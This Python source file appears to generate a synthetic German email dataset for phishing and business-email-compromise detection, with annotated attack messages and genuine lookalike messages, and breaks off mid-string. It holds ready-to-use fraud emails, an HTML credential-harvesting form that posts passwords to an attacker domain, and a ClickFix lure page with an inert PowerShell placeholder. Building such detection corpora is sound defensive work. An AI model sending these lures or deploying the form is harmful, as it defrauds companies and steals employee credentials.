"""German messages: 8 attacks, 8 genuine."""
import base64

import files
import infra as I
import qr
from common import to_utc, hhex, huuid, hdigits
from company import st, BANK, TAX
from docs import invoice, letter
from ids import pretty
from lib import Msg, plain, html, alt, mixed, related, att, text_att, quote_outlook

JH = st('juergen.hoefler')
SK = st('sabine.kraemer')
MW = st('monika.weiss')
TB = st('thomas.baeumer')
LV = st('lukas.vogt')
KM = st('katrin.mueller-seidel')
ME = st('markus.engel')
JU = st('julia.hartmann')
TS = st('tobias.schaefer')
AL = st('anja.lehmann')
DR = st('daniel.roth')

OUTLOOK_DE = ('iso-8859-1', 'Q')


def attacks():
    out = []

    # ------------------------------------------------------------------ A01
    body = """Hallo Frau Krämer,

ich sitze gerade mit unseren Anwälten in der Schlussverhandlung und kann nicht telefonieren, deshalb kurz per Mail.

Wir stehen unmittelbar vor der Unterzeichnung der Übernahme eines Wettbewerbers in Tschechien (intern "Projekt Kranich"). Bis zur Freigabe durch das Bundeskartellamt gilt strikte Vertraulichkeit. Bitte sprechen Sie mit niemandem im Haus darüber, auch nicht mit Herrn Brückner oder der Kreditorenbuchhaltung – die Berater haben ausdrücklich darauf bestanden.

Für die Exklusivitätsvereinbarung muss heute noch eine Sicherheitsleistung von 248.500,00 EUR auf das Anderkonto der Kanzlei gehen. Rechtsanwalt Dr. Kessler von Kessler Brandt Partners meldet sich in den nächsten Minuten per E-Mail mit den Kontodaten und dem Verwendungszweck. Bitte führen Sie die Zahlung als Eilüberweisung aus und geben Sie mir kurz Bescheid, sobald sie raus ist.

Mir ist klar, dass das vom üblichen Freigabeprozess abweicht – die Unterschriften im Workflow hole ich morgen nach. Antworten Sie bitte nur an diese Adresse, mein Postfach im Haus wird im Rahmen der Due Diligence gerade gespiegelt.

Danke Ihnen, ich verlasse mich auf Sie.

Viele Grüße
Jürgen Höfler
Geschäftsführer
"""
    out.append(Msg('attack', 'de', 'ceo-fraud-uebernahme',
        what='CEO fraud: "Jürgen Höfler" asks the CFO for an urgent confidential EUR 248,500 transfer for a secret acquisition; a "lawyer" will send account data.',
        why='Look-alike domain example-group.de (real: example.com) on a Hetzner VPS with Roundcube; secrecy, urgency, bypass of approval workflow, "reply only to this address", announced fake lawyer - classic BEC/CEO fraud.',
        when=(2026, 10, 13, 16, 48, 12), zone='DE',
        infra=I.roundcube_vps('a01', 'mail.example-group.de', 'static.37.214.90.157.clients.your-server.de',
                              '157.90.214.37', 'example-group.de'),
        frm=(JH[0], 'j.hoefler@example-group.de'), to=[SK], subject='Vertraulich – Projekt Kranich',
        body=plain(body, 'UTF-8', 'quoted-printable', flowed=True, quote_cs=False), hcs=('UTF-8', 'Q')))

    # ------------------------------------------------------------------ A02
    lt = BANK['a02_lt']
    body = """Sehr geehrte Frau Weiß,

im Zuge der Integration unseres Zahlungsverkehrs in die Treasury-Struktur unserer neuen Muttergesellschaft stellen wir unsere Hausbankverbindung um. Wir bitten Sie daher, sämtliche Zahlungen an die Lieferant GmbH ab sofort ausschließlich auf folgendes Konto zu leisten:

Kontoinhaber: Lieferant GmbH
Bank: Revolut Bank UAB, Vilnius
IBAN: %s
BIC: REVOLT21

Unsere bisherige Verbindung bei der Sparkasse Fürth wird zum 31.10.2026 geschlossen; Zahlungseingänge dort können danach nicht mehr zugeordnet werden und gehen an Sie zurück.

Damit wir den Abgleich vornehmen können, senden Sie uns bitte kurzfristig eine aktuelle Offene-Posten-Liste Ihrer Verbindlichkeiten uns gegenüber. Die von unserer Geschäftsführung unterzeichnete Bestätigung finden Sie im Anhang.

Aufgrund der Umstellung ist unsere Telefonanlage in dieser Woche nur eingeschränkt erreichbar – bitte kontaktieren Sie mich bei Rückfragen per E-Mail.

Mit freundlichen Grüßen

Petra Lang
Key Account Management
Lieferant GmbH
Kunststofftechnik & Verpackung
Würzburger Str. 210, 90766 Fürth
""" % pretty(lt)
    t = to_utc('DE', 2026, 10, 20, 10, 7, 0)
    pdf = letter(['Lieferant GmbH', 'Kunststofftechnik & Verpackung', 'Würzburger Str. 210, 90766 Fürth'],
                 ['Example Group GmbH', 'Kreditorenbuchhaltung', 'Frankenstraße 152', '90461 Nürnberg'],
                 'Fürth, 19.10.2026', 'Mitteilung über die Änderung unserer Bankverbindung',
                 ['Sehr geehrte Damen und Herren,',
                  'hiermit teilen wir Ihnen mit, dass Zahlungen an die Lieferant GmbH mit sofortiger Wirkung ausschließlich auf das nachstehende Konto zu leisten sind:',
                  'Kontoinhaber: Lieferant GmbH - Bank: Revolut Bank UAB - IBAN: %s - BIC: REVOLT21' % pretty(lt),
                  'Die bisherige Bankverbindung bei der Sparkasse Fürth wird zum 31.10.2026 aufgelöst. Bitte aktualisieren Sie Ihre Stammdaten entsprechend.'],
                 ['Mit freundlichen Grüßen'], ['Lieferant GmbH', 'Geschäftsführung'],
                 ['Lieferant GmbH - Sitz Fürth - Amtsgericht Fürth HRB 14472 - USt-IdNr. %s' % TAX['lieferant']],
                 t, 'DE', 'Microsoft Word', 'Microsoft: Print To PDF')
    out.append(Msg('attack', 'de', 'lieferant-bankverbindung-lookalike',
        what='Supplier bank-detail change: "Petra Lang" of Lieferant GmbH announces a new account at a Lithuanian e-money bank and asks for the open-items list.',
        why='Sent from look-alike lieferant-gmbh.com (real: lieferant-gmbh.de) via Namecheap Private Email from a VPN exit; new IBAN abroad (LT), old account "closed", asks for OP list, discourages phone verification - supplier-impersonation BEC.',
        when=(2026, 10, 20, 10, 7, 0), zone='DE', infra=I.privateemail('a02', '185.213.154.88'),
        frm=('Petra Lang', 'p.lang@lieferant-gmbh.com'), to=[MW],
        subject='Änderung unserer Bankverbindung – Lieferant GmbH',
        body=mixed(alt(body, 'UTF-8', 'quoted-printable', style='simple', quote_cs=False),
                   att('application/pdf', 'Lieferant_GmbH_Mitteilung_Bankverbindung.pdf', pdf, style='ox')),
        hcs=('UTF-8', 'Q')))

    # ------------------------------------------------------------------ A03
    n26 = BANK['a03_n26']
    q1 = """Guten Tag Frau Weiß,

die Rechnung 2026-10388 ist am 14.10. per Post und E-Mail an Sie rausgegangen, anbei nochmals als PDF. Die Gutschrift für die Fehlmenge aus Lieferung 80014471 folgt separat.

Freundliche Grüße
Buchhaltung
Kartonagen Weber GmbH"""
    q0 = """Hallo zusammen,

uns liegt zur Bestellung 4500021877 bisher keine Rechnung vor, nur der Lieferschein 80014471. Können Sie die Rechnung bitte nochmals senden?

Viele Grüße
Monika Weiß
Kreditorenbuchhaltung
Example Group GmbH"""
    body = """Guten Tag Frau Weiß,

vielen Dank für Ihre Rückmeldung.

Bitte beachten Sie, dass unser Geschäftskonto bei der Sparkasse aufgrund der laufenden Umstellung auf ein neues Online-Banking-Verfahren derzeit keine Zahlungseingänge annimmt. Wir bitten Sie daher, die Rechnung 2026-10388 über 18.742,60 EUR sowie die am 30.10. fällige Rechnung 2026-10412 über 6.118,20 EUR auf unser Ausweichkonto zu überweisen:

Kontoinhaber: Kartonagen Weber
IBAN: %s
BIC: NTSBDEB1XXX

Senden Sie uns nach Ausführung bitte kurz den Zahlungsbeleg, damit wir die Posten ausbuchen können. Die telefonische Erreichbarkeit der Buchhaltung ist bis Ende der Woche eingeschränkt.

Freundliche Grüße
Buchhaltung
Kartonagen Weber GmbH
Am Falbenholzweg 21 · 91126 Schwabach
""" % pretty(n26)
    body += quote_outlook('de', 'Buchhaltung <buchhaltung@kartonagen-weber.de>', 'Freitag, 16. Oktober 2026 11:02',
                          'Monika Weiß <monika.weiss@example.com>', 'AW: Rechnung 2026-10388 / Bestellung 4500021877', q1)
    body += quote_outlook('de', 'Monika Weiß <monika.weiss@example.com>', 'Freitag, 16. Oktober 2026 09:41',
                          'Buchhaltung <buchhaltung@kartonagen-weber.de>', 'Rechnung 2026-10388 / Bestellung 4500021877', q0)
    out.append(Msg('attack', 'de', 'threadhijack-kartonagen-weber',
        what='Thread hijack from the genuinely compromised accounts mailbox of Kartonagen Weber: reply in a real invoice thread redirecting two payments to an N26 "fallback account".',
        why='Real domain and real Microsoft 365 tenant (account takeover), but Reply-To points to look-alike kartonagen-weber-de.com; the IBAN is a Berlin neobank account instead of the known Sparkasse account; pretext, urgency, "phone unavailable" - conversation-hijack BEC. Compare genuine B06.',
        when=(2026, 10, 27, 8, 52, 40), zone='DE', infra=I.m365('a03', 'kartonagen-weber.de', idx=1),
        frm=('Buchhaltung Kartonagen Weber', 'buchhaltung@kartonagen-weber.de'), to=[MW],
        reply_to=('Buchhaltung Kartonagen Weber', 'buchhaltung@kartonagen-weber-de.com'),
        subject='AW: Rechnung 2026-10388 / Bestellung 4500021877',
        in_reply_to='<AM9PR04MB81802A7C3E0B41D6F1C2AA9E84D42@AM9PR04MB8180.eurprd04.prod.outlook.com>',
        references='<8f0c1d2e3a4b4c5d9e7f6a1b2c3d4e5f@EX01.ad.example.com>\n <AM9PR04MB81802A7C3E0B41D6F1C2AA9E84D42@AM9PR04MB8180.eurprd04.prod.outlook.com>',
        body=alt(body, 'iso-8859-1', 'quoted-printable', style='outlook'), hcs=OUTLOOK_DE))

    # ------------------------------------------------------------------ A04
    target = TS
    url = 'https://examplegroup-sso.com/mfa/enroll?u=%s&t=%s' % (
        base64.b64encode(target[1].encode()).decode().rstrip('='), hhex('a04t', 8))
    png = qr.qr_png(url, scale=5)
    src = """Guten Tag,

im Rahmen der Umstellung auf die neue Sicherheitsrichtlinie (Conditional Access 2026) müssen alle Mitarbeitenden der Example Group ihre Multi-Faktor-Authentifizierung bis zum **06.11.2026** neu registrieren.

Bitte scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones und melden Sie sich mit Ihren gewohnten Unternehmens-Anmeldedaten an. Der Vorgang dauert weniger als zwei Minuten.

Konten ohne Neuregistrierung werden nach Ablauf der Frist automatisch für Outlook, Teams und VPN gesperrt.

Vielen Dank für Ihre Mithilfe.

Ihr IT-Service
Example Group"""
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #d0d7de">
<tr><td style="background:#0078d4;color:#fff;padding:14px 20px;font-size:16px"><b>Microsoft 365</b> &middot; Example Group IT-Service</td></tr>
<tr><td style="padding:20px">
<p>Guten Tag,</p>
<p>im Rahmen der Umstellung auf die neue Sicherheitsrichtlinie (Conditional Access 2026) m&uuml;ssen alle Mitarbeitenden der Example Group ihre Multi-Faktor-Authentifizierung bis zum <b>06.11.2026</b> neu registrieren.</p>
<p>Bitte scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones und melden Sie sich mit Ihren gewohnten Unternehmens-Anmeldedaten an. Der Vorgang dauert weniger als zwei Minuten.</p>
<p style="text-align:center"><img src="cid:qr_mfa_%s" width="185" height="185" alt="QR-Code"></p>
<p style="font-size:12px;color:#666">Konten ohne Neuregistrierung werden nach Ablauf der Frist automatisch f&uuml;r Outlook, Teams und VPN gesperrt.</p>
<p>Vielen Dank f&uuml;r Ihre Mithilfe.<br>Ihr IT-Service<br>Example Group</p>
</td></tr></table></body></html>
""" % hhex('a04cid', 8)
    body = related(alt(src, 'utf-8', 'base64', raw_html=htm, html_cte='base64'),
                   att('image/png', 'qr.png', png, style='php', inline=True, cid='qr_mfa_%s' % hhex('a04cid', 8)))
    out.append(Msg('attack', 'de', 'mfa-neuregistrierung-quishing',
        what='Quishing: "IT-Service" demands Microsoft Authenticator re-registration via an inline QR code, threatening account lockout.',
        why='Internal IT impersonated from a compromised construction company mailbox (hollmann-bau.de) via a cPanel host running PHPMailer; QR code hides a look-alike SSO URL (examplegroup-sso.com) carrying the victim address in base64; deadline + lockout threat. Compare genuine IT notice B05.',
        when=(2026, 11, 3, 7, 31, 5), zone='DE',
        infra=I.cpanel_php('a04', 'srv17.webhosting-franken.de', '91.204.46.117', 'hollmann', 'hollmann-bau.de',
                           'wp-content/plugins/wp-mail-queue/send.php'),
        frm=('IT-Service Example Group', 'info@hollmann-bau.de'), to=[target],
        subject='Handlungsbedarf: Neuregistrierung Microsoft Authenticator bis 06.11.2026',
        body=body, hcs=('UTF-8', 'B')))

    # ------------------------------------------------------------------ A05
    sk = BANK['a05_sk']
    src = """Sehr geehrte Damen und Herren,

für die Eintragung und Veröffentlichung Ihrer Unternehmensdaten im Zentralen Register für Gewerbe und Handel (ZRGH) erhalten Sie anbei die Rechnung für den Eintragungszeitraum 2026/2027.

Unternehmen: Example Group GmbH
Registergericht: Amtsgericht Nürnberg, HRB 31874
Registernummer ZRGH: ZR-DE-0927441
Rechnungsnummer: ZR-2026-118437
Rechnungsbetrag: 1.414,91 EUR (1.189,00 EUR zzgl. 19 % USt.)

Bitte überweisen Sie den Betrag innerhalb von 7 Tagen unter Angabe der Rechnungsnummer auf das in der Rechnung angegebene Konto. Nach Zahlungseingang ist Ihr Eintrag für zwölf Monate in der ZRGH-Datenbank abrufbar.

Die Rechnung steht Ihnen auch online zur Verfügung: [[Rechnung ZR-2026-118437 abrufen|https://portal.zrgh-register.de/rechnung/ZR-2026-118437]]

Mit freundlichen Grüßen
ZRGH Service-Team
Zentrales Register für Gewerbe und Handel"""
    t = to_utc('DE', 2026, 11, 10, 6, 15, 0)
    pdf = invoice(['ZRGH Zentrales Register für Gewerbe und Handel', 'Service-Center, Postfach 10 07 21, 10567 Berlin'],
                  ['Example Group GmbH', 'Frankenstraße 152', '90461 Nürnberg'], 'Rechnung ZR-2026-118437',
                  [('Rechnungsdatum', '09.11.2026'), ('Registernummer', 'ZR-DE-0927441'), ('Zahlbar bis', '17.11.2026')],
                  [('Eintragung und Veröffentlichung Unternehmensdaten 2026/2027 (12 Monate)', '1.189,00 EUR')],
                  [('Netto', '1.189,00 EUR'), ('USt. 19 %', '225,91 EUR'), ('Gesamtbetrag', '1.414,91 EUR')],
                  ['Empfänger: ZRGH Service s.r.o. - IBAN %s - BIC TATRSKBX' % pretty(sk),
                   'Dieses Schreiben ist ein Angebot zur Eintragung in ein privates Verzeichnis. Es besteht keine Zahlungspflicht, sofern kein Auftrag erteilt wurde.',
                   'Mit Zahlung nehmen Sie das Angebot an; die Vertragslaufzeit verlängert sich um jeweils 12 Monate, sofern nicht 3 Monate vor Ablauf gekündigt wird.'],
                  t, 'DE', 'wkhtmltopdf 0.12.6', 'Qt 4.8.7')
    out.append(Msg('attack', 'de', 'registereintrag-scheinrechnung',
        what='Fake register invoice: "Zentrales Register für Gewerbe und Handel" bills EUR 1,414.91 for an entry, to a Slovak account.',
        why='Sent via Brevo by an unknown "register" imitating official registers (HRB data scraped from Handelsregister); no order exists; the small print in the PDF reveals it is only an "offer" with auto-renewal; payee abroad (SK) - deceptive directory-invoice scam.',
        when=(2026, 11, 10, 6, 15, 0), zone='DE', infra=I.brevo('a05'),
        frm=('ZRGH Service-Team', 'rechnung@zrgh-register.de'), to=[MW],
        subject='Rechnung ZR-2026-118437 – Eintragung Example Group GmbH',
        body=mixed(alt(src, 'utf-8', 'quoted-printable', style='generic', accent='#8a6d1d', title='Rechnung'),
                   att('application/pdf', 'Rechnung_ZR-2026-118437.pdf', pdf, style='esp')),
        hcs=('UTF-8', 'Q'),
        extra=[('List-Unsubscribe', '<https://r.zrgh-register.de/unsub?e=%s>' % hhex('a05u', 24)),
               ('X-Mailer', 'Sendinblue')]))

    # ------------------------------------------------------------------ A06
    env = huuid('a06env', upper=True)
    form = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>DocuSign - Dokument anzeigen</title>
<style>body{margin:0;background:#f4f4f4;font-family:Arial,Helvetica,sans-serif}
.bar{background:#1e1e1e;color:#fff;padding:14px 24px;font-size:18px}.box{width:380px;margin:60px auto;background:#fff;padding:28px;border-radius:4px;box-shadow:0 1px 4px #aaa}
input{width:100%%;padding:9px;margin:8px 0 14px;border:1px solid #bbb;box-sizing:border-box}button{width:100%%;padding:11px;background:#ffc820;border:0;font-weight:bold}
small{color:#777}</style></head>
<body><div class="bar">DocuSign</div>
<div class="box"><p><b>Rahmenvertrag 2027 - Lieferant GmbH.pdf</b><br><small>Umschlag-ID %s</small></p>
<p>Aus Sicherheitsgründen bestätigen Sie bitte Ihre geschäftliche E-Mail-Adresse, um das Dokument anzuzeigen und zu signieren.</p>
<form method="post" action="https://lieferant-vertraege.com/dsign/view.php">
<label>E-Mail</label><input type="email" name="login" value="%s">
<label>Kennwort</label><input type="password" name="passwd">
<input type="hidden" name="env" value="%s">
<button type="submit">Dokument anzeigen</button></form>
<p><small>Powered by DocuSign eSignature &middot; Ihre Daten werden verschlüsselt übertragen.</small></p></div>
</body></html>
""" % (env, ME[1], env)
    src = """Petra Lang hat Ihnen ein Dokument zum Prüfen und Signieren gesendet.

**Rahmenvertrag 2027 – Lieferant GmbH**

Hallo Herr Engel,
wie besprochen erhalten Sie den Rahmenvertrag 2027 inkl. der neuen Preisstaffel für Spritzgussteile und Blisterverpackungen zur Unterschrift. Aufgrund der Größe liegt das Dokument als sichere Anlage bei. Bitte bis Freitag zeichnen, damit die Konditionen ab 01.01. greifen.

Petra Lang
Lieferant GmbH

Öffnen Sie die Anlage "Rahmenvertrag_2027_Lieferant_GmbH.htm", um das Dokument anzuzeigen.

Diese Nachricht enthält einen sicheren Link zu DocuSign. Bitte leiten Sie diese E-Mail nicht weiter."""
    out.append(Msg('attack', 'de', 'docusign-html-anhang',
        what='HTML-attachment credential phishing styled as a DocuSign envelope "Rahmenvertrag 2027 – Lieferant GmbH" for procurement.',
        why='Not from DocuSign: sent via a SendGrid account from docusign-esign.net; the "document" is a local HTML file with a login form (pre-filled address, password field) posting to lieferant-vertraege.com - credential harvesting. Compare genuine Docusign envelope B08.',
        when=(2026, 11, 17, 14, 22, 51), zone='DE', infra=I.sendgrid('a06', 'em4471.docusign-esign.net'),
        frm=('Petra Lang über DocuSign', 'dse@docusign-esign.net'), to=[ME],
        reply_to=('Petra Lang', 'p.lang@lieferant-vertraege.com'),
        subject='Petra Lang hat Ihnen "Rahmenvertrag 2027 – Lieferant GmbH" zum Signieren gesendet',
        body=mixed(alt(src, 'utf-8', 'quoted-printable', style='generic', accent='#ffc820', title='DocuSign'),
                   text_att('text/html', 'Rahmenvertrag_2027_Lieferant_GmbH.htm', form, 'utf-8', 'base64')),
        hcs=('UTF-8', 'B')))

    # ------------------------------------------------------------------ A07
    bunq = BANK['a07_bunq']
    src = """Hallo Herr Bäumer,

ich habe mein Girokonto gewechselt und würde mein Gehalt gerne ab der November-Abrechnung auf das neue Konto bekommen. Schaffen Sie das noch vor dem Abrechnungslauf?

Neue Bankverbindung:
Kontoinhaberin: Julia Hartmann
IBAN: %s
BIC: BUNQNL2A

Das alte Konto bei der Sparda-Bank löse ich zum Monatsende auf. Ich bin diese Woche fast durchgehend bei Kunden in Baden-Württemberg und komme mit dem Laptop nicht ins VPN, deshalb schreibe ich Ihnen von meiner privaten Adresse. Wenn noch ein Formular nötig ist, schicken Sie es mir gerne hierher.

Vielen Dank und viele Grüße
Julia Hartmann""" % pretty(bunq)
    out.append(Msg('attack', 'de', 'gehaltskonto-aenderung-freemail',
        what='Payroll diversion: "Julia Hartmann" asks HR to move her salary to a new bunq account before the November payroll run.',
        why='Impersonation from a Gmail address not known for the employee; salary redirected to a Dutch neobank; excuse for not using the corporate account (no VPN), time pressure before payroll cut-off - payroll-diversion BEC. Compare the genuine private-mail sick note B04.',
        when=(2026, 11, 12, 19, 4, 33), zone='DE', infra=I.gmail('a07'),
        frm=(JU[0], 'hartmann.julia.nbg@gmail.com'), to=[TB],
        subject='Änderung Bankverbindung Gehalt',
        body=alt(src, 'UTF-8', 'quoted-printable', style='gmail', quote_cs=False), hcs=('UTF-8', 'B')))

    # ------------------------------------------------------------------ A08
    cmd = 'powershell -w h -nop -c "#  Verifizierung ID 48-221-907 (inert test sample)"'
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="iso-8859-1"><title>Spielwarenmesse 2027 - Standplan Halle 7A</title>
<style>body{font-family:Arial,sans-serif;background:#eef1f5;margin:0}.hd{background:#c8102e;color:#fff;padding:16px 28px;font-size:20px}
.card{width:520px;margin:50px auto;background:#fff;padding:26px;border-radius:6px;box-shadow:0 2px 6px #999}
.cap{border:1px solid #ccc;padding:14px;display:flex;align-items:center;gap:12px}.box{width:26px;height:26px;border:2px solid #888}
ol li{margin:8px 0}code{background:#f3f3f3;padding:3px 6px;display:block;margin-top:10px;font-size:12px;color:#444}</style></head>
<body><div class="hd">Spielwarenmesse&reg; 2027 &middot; Ausstellerportal</div>
<div class="card"><h3>Standplan Halle 7A wird geladen ...</h3>
<div class="cap"><div class="box"></div><div>Ich bin kein Roboter<br><small>reCAPTCHA &middot; Datenschutz - Nutzungsbedingungen</small></div></div>
<p><b>Zusätzliche Überprüfung erforderlich.</b> Um den Standplan anzuzeigen, bestätigen Sie bitte Ihre Identität:</p>
<ol><li>Drücken Sie gleichzeitig die <b>Windows-Taste + R</b></li>
<li>Drücken Sie <b>Strg + V</b>, um den Verifizierungscode einzufügen</li>
<li>Drücken Sie <b>Enter</b></li></ol>
<p><small>Verifizierungscode (wurde in die Zwischenablage kopiert):</small><code>%s</code></p>
</div></body></html>
""" % cmd
    src = """Sehr geehrte Damen und Herren,

vielen Dank für Ihre Anmeldung zur Spielwarenmesse 2027 (27. bis 31. Januar 2027, Messezentrum Nürnberg).

Aufgrund der hohen Nachfrage in der Produktgruppe "Holzspielzeug, Kleinkind" wurde die Standzuteilung in Halle 7A angepasst. Den vorläufigen Standplan mit Ihrer neuen Standnummer erhalten Sie im Anhang.

Bitte bestätigen Sie die Zuteilung bis spätestens 20.11.2026 im Ausstellerportal. Nicht bestätigte Flächen werden nach Ablauf der Frist an Unternehmen auf der Warteliste vergeben.

Mit freundlichen Grüßen

Ausstellerservice
Spielwarenmesse eG"""
    out.append(Msg('attack', 'de', 'clickfix-spielwarenmesse-standplan',
        what='ClickFix lure: "Spielwarenmesse Ausstellerservice" sends a fake stand plan as HTML that tells the user to press Win+R, Ctrl+V, Enter to "verify".',
        why='Look-alike domain spielwarenmesse-service.de on a VPS (Exim, PHPMailer); the HTML attachment is a fake CAPTCHA instructing the victim to paste and run a PowerShell command (here an inert placeholder) - ClickFix social engineering. Compare genuine Spielwarenmesse newsletter B07 and the genuine internal request B03.',
        when=(2026, 11, 4, 9, 12, 44), zone='DE',
        infra=I.exim('a08', 'spielwarenmesse-service.de', 'vps-7c1e02a4.vps.ovh.net', '51.75.142.209', '127.0.0.1',
                     'spielwarenmesse-service.de', mua='php'),
        frm=('Spielwarenmesse Ausstellerservice', 'aussteller@spielwarenmesse-service.de'), to=[AL],
        subject='Spielwarenmesse 2027: Standzuteilung Halle 7A – Bestätigung bis 20.11. erforderlich',
        body=mixed(plain(src, 'iso-8859-1', '8bit'),
                   text_att('text/html', 'Standplan_Halle7A_Bestaetigung.html', page, 'iso-8859-1', 'base64')),
        hcs=('iso-8859-1', 'Q')))
    return out


def business():
    out = []
    LIEF = ['Lieferant GmbH', 'Kunststofftechnik & Verpackung', 'Würzburger Str. 210, 90766 Fürth',
            'Tel. 0911 97781-0 - rechnungen@lieferant-gmbh.de']
    FOOT = ['Lieferant GmbH - Sitz Fürth - Amtsgericht Fürth HRB 14472 - Geschäftsführer: Werner Lang, Stefan Maier',
            'USt-IdNr. %s - Sparkasse Fürth - IBAN %s - BIC BYLADEM1SFU' % (TAX['lieferant'], pretty(BANK['lieferant_old']))]
    SIG = """
Mit freundlichen Grüßen

Buchhaltung
Lieferant GmbH
Kunststofftechnik & Verpackung
Würzburger Str. 210 · 90766 Fürth
Tel. 0911 97781-0 · rechnungen@lieferant-gmbh.de
Amtsgericht Fürth HRB 14472 · USt-IdNr. %s""" % TAX['lieferant']

    # ------------------------------------------------------------------ B01
    t = to_utc('DE', 2026, 10, 7, 11, 20, 0)
    pdf = invoice(LIEF, ['Example Group GmbH', 'Kreditorenbuchhaltung', 'Frankenstraße 152', '90461 Nürnberg'],
                  'Rechnung 2026-30871',
                  [('Rechnungsdatum', '07.10.2026'), ('Ihre Bestellung', '4500021644 vom 08.09.2026'),
                   ('Lieferschein', 'LS-2026-22917 vom 05.10.2026'), ('Kundennummer', '10388')],
                  [('Holzrad-Set Kunststoffnabe Ø 38 mm, rot, 12.000 Stk. à 0,412 €', '4.944,00 €'),
                   ('Blisterverpackung "Lokomotive Lina" PET, 8.000 Stk. à 0,286 €', '2.288,00 €'),
                   ('Werkzeuganteil Blisterform (einmalig)', '1.150,00 €')],
                  [('Nettobetrag', '8.382,00 €'), ('USt. 19 %', '1.592,58 €'), ('Rechnungsbetrag', '9.974,58 €')],
                  FOOT, t, 'DE', 'Microsoft Dynamics 365 Business Central', 'Microsoft Dynamics 365 Business Central',
                  notes=['Zahlbar innerhalb 30 Tagen netto oder innerhalb 14 Tagen mit 2 % Skonto.'])
    src = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung 2026-30871 zu Ihrer Bestellung 4500021644 über 9.974,58 €.

Zahlbar innerhalb von 30 Tagen netto oder innerhalb von 14 Tagen mit 2 % Skonto auf unser bekanntes Konto bei der Sparkasse Fürth.
""" + SIG
    out.append(Msg('business', 'de', 'lieferant-rechnung',
        what='Lieferant GmbH sends invoice 2026-30871 (PDF) for plastic wheel sets and blister packaging.',
        why='Real domain lieferant-gmbh.de via its usual IONOS mail relay and Outlook; invoice matches PO/delivery note; payment to the known Sparkasse account; no pressure.',
        when=(2026, 10, 7, 11, 20, 0), zone='DE', infra=I.ionos('b01', '80.147.22.91', 'lieferant-gmbh.de'),
        frm=('Lieferant GmbH Buchhaltung', 'rechnungen@lieferant-gmbh.de'), to=[MW],
        subject='Rechnung 2026-30871 zu Ihrer Bestellung 4500021644',
        body=mixed(alt(src, 'windows-1252', 'quoted-printable', style='outlook'),
                   att('application/pdf', 'RE_2026-30871.pdf', pdf)),
        hcs=OUTLOOK_DE, content_lang='de'))

    # ------------------------------------------------------------------ B02
    t = to_utc('DE', 2026, 11, 24, 10, 2, 0)
    new = BANK['lieferant_new']
    pdf = letter(LIEF, ['Example Group GmbH', 'Kreditorenbuchhaltung', 'Frankenstraße 152', '90461 Nürnberg'],
                 'Fürth, 18.11.2026', 'Änderung unserer Bankverbindung zum 01.01.2027',
                 ['Sehr geehrte Damen und Herren,',
                  'im Zuge der Zusammenlegung unserer Konten führen wir ab dem 01.01.2027 unseren gesamten Zahlungsverkehr über die Commerzbank AG. Kontoinhaber bleibt unverändert die Lieferant GmbH.',
                  'Neue Bankverbindung ab 01.01.2027: Commerzbank AG, Filiale Nürnberg - IBAN %s - BIC COBADEFFXXX' % pretty(new),
                  'Unser bisheriges Konto bei der Sparkasse Fürth (IBAN %s) bleibt bis zum 31.03.2027 bestehen; Zahlungen dorthin werden weiterhin korrekt zugeordnet.' % pretty(BANK['lieferant_old']),
                  'Bitte prüfen Sie diese Mitteilung telefonisch unter der Ihnen bekannten Rufnummer unserer Buchhaltung (0911 97781-40). Wir werden Sie niemals per E-Mail bitten, Zahlungen kurzfristig auf ein anderes Konto umzuleiten.'],
                 ['Mit freundlichen Grüßen'], ['Werner Lang, Geschäftsführer          Karin Ott, Leitung Finanzbuchhaltung'],
                 FOOT[:1], t, 'DE', 'Microsoft Word für Microsoft 365', 'Microsoft Word für Microsoft 365')
    logo = files.logo_png(180, 48, (0, 84, 147), (255, 255, 255), 'lieferant-logo')
    src = """Sehr geehrte Frau Weiß,

wie in unserem Schreiben vom 18.11.2026 angekündigt, das Ihnen auch per Post zugegangen ist, ändert sich unsere Bankverbindung zum **01.01.2027**. Das unterschriebene Schreiben finden Sie im Anhang; es ist zusätzlich in unserem Lieferantenportal hinterlegt.

Neue Bankverbindung ab 01.01.2027:
Commerzbank AG, Filiale Nürnberg
IBAN: %s
BIC: COBADEFFXXX
Kontoinhaber: Lieferant GmbH (unverändert)

Das bisherige Konto bei der Sparkasse Fürth bleibt bis 31.03.2027 bestehen – es entsteht also kein Zeitdruck. Für Zahlungen im Dezember nutzen Sie bitte noch die bisherige Verbindung.

Bitte verifizieren Sie die Änderung wie gewohnt telefonisch bei Frau Ott unter 0911 97781-40. Sollten Sie jemals eine E-Mail erhalten, die kurzfristig eine andere Bankverbindung nennt, rufen Sie uns bitte an.
""" % pretty(new) + SIG.replace('Buchhaltung\nLieferant', 'Karin Ott\nLeitung Finanzbuchhaltung\nLieferant')
    htm = alt(src, 'windows-1252', 'quoted-printable', style='outlook')
    h = htm.parts[1]
    h.text = h.text.replace('</div>\n</body>', '<p class="MsoNormal"><img width="180" height="48" src="cid:image001.png@01DB5E4A.3C2F1B90" alt="Lieferant GmbH"></p>\n</div>\n</body>')
    body = mixed(Part_related(htm.parts[0], h, att('image/png', 'image001.png', logo, inline=True,
                                                     cid='image001.png@01DB5E4A.3C2F1B90')),
                 att('application/pdf', 'Lieferant_GmbH_Aenderung_Bankverbindung_2027.pdf', pdf))
    out.append(Msg('business', 'de', 'lieferant-neue-bankverbindung-echt',
        what='Lieferant GmbH announces a genuine bank change (Sparkasse Fürth -> Commerzbank) effective 01.01.2027, with signed letter and logo.',
        why='Real domain and IONOS infrastructure; change pre-announced by post; same account holder, German bank; long overlap (old account stays until 03/2027); explicitly asks for phone verification on the known number. Hard negative of A02/A03.',
        when=(2026, 11, 24, 10, 2, 0), zone='DE', infra=I.ionos('b02', '80.147.22.96', 'lieferant-gmbh.de'),
        frm=('Karin Ott (Lieferant GmbH)', 'rechnungen@lieferant-gmbh.de'), to=[MW],
        cc=[('Petra Lang', 'p.lang@lieferant-gmbh.de')],
        subject='Mitteilung: Neue Bankverbindung ab 01.01.2027', body=body, hcs=OUTLOOK_DE, content_lang='de'))

    # ------------------------------------------------------------------ B03
    src = """Hallo Sabine,

